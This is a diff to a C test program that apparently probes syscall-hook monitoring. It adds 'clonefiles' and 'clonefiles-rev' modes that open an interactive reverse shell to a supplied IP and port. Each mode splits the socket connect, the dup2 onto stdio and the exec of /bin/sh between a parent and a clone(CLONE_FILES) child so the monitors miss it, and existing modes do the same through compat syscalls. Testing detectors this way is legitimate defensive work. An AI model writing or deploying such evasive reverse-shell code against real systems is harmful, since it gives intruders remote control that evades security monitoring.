@@ -17,6 +17,12 @@
  *                          /bin/sh -i                   (a reverse shell the syscall hooks miss)
  *   compat-quiet           getuid, uname and dup2 as 64-bit calls with the numbers 32-bit
  *                          socketcall, dup2 and dup have (102, 63, 41 is socket: not called)
+ *   clonefiles IP PORT     a child made with clone(CLONE_FILES) (the parent's fd table, not a
+ *                          thread) connects and dup2s the socket onto 0-2, then exits; the
+ *                          parent, whose fds they are too, execs /bin/sh -i
+ *   clonefiles-rev IP PORT the other way round: the child (clone(CLONE_FILES), made first)
+ *                          waits; the parent connects and dup2s the socket onto 0-2; the
+ *                          child then execs /bin/sh -i
  *   x32                    getpid as an x32 ABI call (0x40000000 | 39; ENOSYS where x32 is off)
  *   uring-write PATH TEXT  openat + write through io_uring; prints the bytes written
  *   tmpfile DIR            O_TMPFILE copy of /bin/sleep, reopened read-only through
@@ -39,6 +45,8 @@
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <sys/utsname.h>
+#include <sched.h>
+#include <signal.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -173,6 +181,28 @@ static long compat_call(long nr, long a, long b, long c)
 #define COMPAT_DUP2 63
 #endif
 
+/* clonefiles' child: the fd table is the parent's */
+static int clone_connect(void *arg)
+{
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    if (connect(s, (struct sockaddr *)arg, sizeof(struct sockaddr_in)))
+        _exit(3);
+    dup2(s, 0);
+    dup2(s, 1);
+    dup2(s, 2);
+    _exit(0);
+}
+
+/* clonefiles-rev's child: a moment later, a shell on the stdio the parent set up meanwhile
+ * in the fd table they share (the parent may be killed at its dup2: the table stays) */
+static int clone_exec_later(void *arg)
+{
+    (void)arg;
+    usleep(300000);
+    execl("/bin/sh", "sh", "-i", (char *)0);
+    _exit(127);
+}
+
 static struct sockaddr_in addr_of(const char *ip, const char *port)
 {
     struct sockaddr_in sa;
@@ -224,6 +254,30 @@ int main(int argc, char **argv)
             compat_call(COMPAT_DUP2, s, fd, 0);
         execl("/bin/sh", "sh", "-i", (char *)0);
         return fail("exec");
+    } else if (!strcmp(mode, "clonefiles") && argc == 4) {
+        static struct sockaddr_in sa;
+        sa = addr_of(argv[2], argv[3]);
+        static char stack[65536];
+        pid_t child = clone(clone_connect, stack + sizeof(stack), CLONE_FILES | SIGCHLD, &sa);
+        if (child < 0)
+            return fail("clone");
+        waitpid(child, 0, 0);   /* killed at its dup2 or not: the fds are the parent's too */
+        execl("/bin/sh", "sh", "-i", (char *)0);
+        return fail("exec");
+    } else if (!strcmp(mode, "clonefiles-rev") && argc == 4) {
+        struct sockaddr_in sa = addr_of(argv[2], argv[3]);
+        static char stack[65536];
+        pid_t child = clone(clone_exec_later, stack + sizeof(stack), CLONE_FILES | SIGCHLD, 0);
+        if (child < 0)
+            return fail("clone");
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        if (connect(s, (struct sockaddr *)&sa, sizeof(sa)))
+            return fail("connect");
+        dup2(s, 0);
+        dup2(s, 1);
+        dup2(s, 2);
+        waitpid(child, 0, 0);
+        return 0;
     } else if (!strcmp(mode, "x32")) {
         long r = syscall(0x40000000L | 39);
         printf("%ld\n", r < 0 ? -errno : r);
